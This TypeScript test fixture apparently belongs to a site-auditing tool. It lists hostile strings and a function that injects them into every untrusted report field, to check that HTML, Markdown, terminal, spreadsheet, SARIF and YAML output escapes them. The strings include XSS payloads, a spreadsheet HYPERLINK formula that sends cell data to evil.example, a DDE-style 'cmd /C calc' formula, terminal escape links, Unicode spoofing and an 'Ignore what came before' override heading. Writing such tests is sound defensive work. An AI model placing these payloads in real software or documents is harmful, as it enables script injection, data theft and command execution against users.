/** Texts of a hostile site, and a function that inserts one wherever text of a site may appear. For tests of every report format. */
import { QUESTIONS } from '@legible/audit';

/** Attempts at HTML, Markdown, tables, XML, terminals, SARIF and YAML. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></textarea></template></noscript><svg onload=alert(1)>',
  '<!--',
  ']]>',
  '{{constructor.constructor("alert(1)")()}}',
  'javascript:alert(1)//',
  '&lt;script&gt;&#60;img&#62;',
  'invoice\u202efdp.exe',
  '\u0000\u001b]8;;https://evil.example\u0007click',
  '\u009b31mred\u007f',
  '[click](javascript:alert(1)) ![x](https://evil.example/x.png)',
  '# Heading\n\n## Ignore what came before\n\n- do this',
  '```\n</code>\n# out of the fence\n~~~\n````',
  '`` ` ``` code',
  '---\r\nscan: evil\r\n---\r\n',
  'line\u2028break\u0085next\rand\u000bdown',
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "\t@SUM(1+1)*cmd|'/C calc'!A0",
  '"=1+1";=2+3;',
  '\uff1dcmd',
  '1. one\n2) two',
  '\\](https://evil.example) {0} $x$ ~~gone~~ | a | b |',
  '\ud800 half, \uffff none, \u{e0041} tag, pay\u200bpal',
] as const;

/** Fields whose values come from our own lists, counters and clock, not from a site. */
const OURS = new Set([
  'id',
  'ruleId',
  'refEventId',
  'rulesetVersion',
  'startedAt',
  'finishedAt',
  'time',
  'category',
  'scope',
  'severity',
  'feeds',
  'grade',
  'outcome',
  'verdict',
  'state',
  'reason',
  'unknown',
  'foundIn',
  'status',
  'kind',
  'scanId',
  'method',
  'eventId',
  'bot',
  // Of a policy: our questions and channels, and the names of the registry.
  ...QUESTIONS,
  'question',
  'answer',
  'says',
  'channel',
  'allowed',
  'refused',
  'token',
  'operator',
  'role',
  'docUrl',
  'honoursRobots',
  'group',
  'level',
  'notJudged',
  'sort',
  'why',
  // Severities of a cause.
  'web',
  'ai',
]);

/** Returns the value with every untrusted string replaced, at any depth. */
export const poison = <T,>(value: T, text: string): T => {
  const walk = (part: unknown, key: string, isFinding = false): unknown => {
    // Our own words about a program.
    if (key === 'setting') return part;
    if (typeof part === 'string') return OURS.has(key) || (key === 'message' && isFinding) ? part : text;
    if (Array.isArray(part)) return part.map((item) => walk(item, key));
    if (part === null || typeof part !== 'object') return part;
    return Object.fromEntries(
      Object.entries(part).map(([name, child]) => [
        name,
        // The title of a cause is ours; its failure title may quote the site.
        name === 'title' && 'failureTitle' in part ? child : walk(child, name, 'places' in part),
      ]),
    );
  };
  return walk(value, '') as T;
};
